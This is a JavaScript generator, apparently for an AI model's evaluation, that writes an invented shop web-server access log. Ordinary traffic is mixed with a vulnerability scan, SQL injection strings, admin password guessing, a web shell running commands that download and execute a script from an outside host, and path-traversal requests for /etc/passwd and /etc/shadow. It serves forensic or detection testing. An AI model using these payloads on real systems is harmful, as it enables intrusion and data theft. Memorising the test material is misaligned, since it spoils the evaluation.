// A web-attack case for the assistant's evaluation (deterministic, invented): one shop web
// server's access log (NCSA combined) with ordinary customers, a scanner, SQL injection, a
// password-guessing run on the admin login, a web shell uploaded and used, and a second
// attacker probing for path traversal. Addresses are documentation ranges.
import { writeFileSync } from 'node:fs';
import { lcg } from '../seeded-random.mjs';

const rng = lcg;

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
// Apache's %t in the server's local zone (JST), as a Japanese host would write it.
function clf(ms) {
  const d = new Date(ms + 9 * 3600_000);
  const p = (n) => String(n).padStart(2, '0');
  return `${p(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} +0900`;
}

const UA_BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0 Safari/537.36';
const PAGES = ['/', '/index.html', '/products.php?id=12', '/products.php?id=7', '/cart.php', '/css/site.css', '/js/app.js', '/images/logo.png', '/about.html', '/contact.html'];

export function generateWeb(file, seed = 13) {
  const rand = rand0(seed);
  const lines = [];
  const add = (t, ip, method, path, status, bytes, ua, ref = '-') => lines.push({ t, line: `${ip} - - [${clf(t)}] "${method} ${path} HTTP/1.1" ${status} ${bytes} "${ref}" "${ua}"` });
  const T0 = Date.parse('2026-10-05T00:00:00Z');
  // Customers: 12 addresses browsing through the morning (UTC 00:00-03:00).
  const customers = Array.from({ length: 12 }, (_, i) => `192.0.2.${10 + i * 7}`);
  for (let i = 0; i < 180; i++) {
    const ip = customers[Math.floor(rand() * customers.length)];
    const page = PAGES[Math.floor(rand() * PAGES.length)];
    add(T0 + Math.floor(rand() * 3 * 3600_000), ip, 'GET', page, 200, 500 + Math.floor(rand() * 20000), UA_BROWSER);
  }
  for (let i = 0; i < 6; i++) add(T0 + 1800_000 + i * 600_000, customers[i], 'POST', '/cart.php', 200, 312, UA_BROWSER);
  // Scanner 203.0.113.45 at 00:20-00:24Z: many 404s.
  const scan = ['/admin/', '/phpmyadmin/', '/.env', '/.git/config', '/backup.zip', '/wp-login.php', '/server-status', '/config.php.bak', '/test.php', '/shell.php', '/cgi-bin/test.cgi', '/old/', '/db.sql', '/admin.php', '/login.jsp'];
  scan.forEach((p, i) => add(T0 + 20 * 60_000 + i * 15_000, '203.0.113.45', 'GET', p, p === '/wp-login.php' || p === '/admin.php' ? 200 : 404, 210, 'Nikto/2.5.0'));
  // SQL injection from the same address at 00:30Z.
  const sqli = ["/products.php?id=12'", '/products.php?id=12%20OR%201=1', '/products.php?id=12%20UNION%20SELECT%20username,password%20FROM%20users--', '/products.php?id=12;DROP%20TABLE%20orders'];
  sqli.forEach((p, i) => add(T0 + 30 * 60_000 + i * 40_000, '203.0.113.45', 'GET', p, i === 2 ? 200 : 500, 900 + i, 'sqlmap/1.8.2#stable'));
  // Password guessing on /admin.php from 203.0.113.45, 00:40-00:44Z: 30 POSTs, the last one 302.
  for (let i = 0; i < 30; i++) add(T0 + 40 * 60_000 + i * 8_000, '203.0.113.45', 'POST', '/admin.php', i === 29 ? 302 : 401, 150, 'python-requests/2.32');
  // Web shell: upload at 00:50Z, then commands.
  add(T0 + 50 * 60_000, '203.0.113.45', 'POST', '/admin.php?action=upload', 200, 88, 'python-requests/2.32');
  const cmds = ['whoami', 'id', 'uname%20-a', 'cat%20/etc/passwd', 'wget%20http://198.51.100.99/x.sh', 'sh%20x.sh'];
  cmds.forEach((c, i) => add(T0 + 52 * 60_000 + i * 45_000, '203.0.113.45', 'GET', `/uploads/cmd.php?c=${c}`, 200, 40 + i, 'python-requests/2.32'));
  // Second attacker 198.51.100.77: path traversal at 01:30Z, all refused.
  const trav = ['/download.php?file=../../../../etc/passwd', '/download.php?file=..%2f..%2f..%2fetc%2fshadow', '/static/..%2f..%2fwindows/win.ini', '/download.php?file=....//....//etc/hosts'];
  trav.forEach((p, i) => add(T0 + 90 * 60_000 + i * 20_000, '198.51.100.77', 'GET', p, 403, 199, 'curl/8.5.0'));
  lines.sort((a, b) => a.t - b.t);
  writeFileSync(file, lines.map((l) => l.line).join('\n') + '\n');
  return lines.length;
}

function rand0(seed) {
  return rng(seed);
}
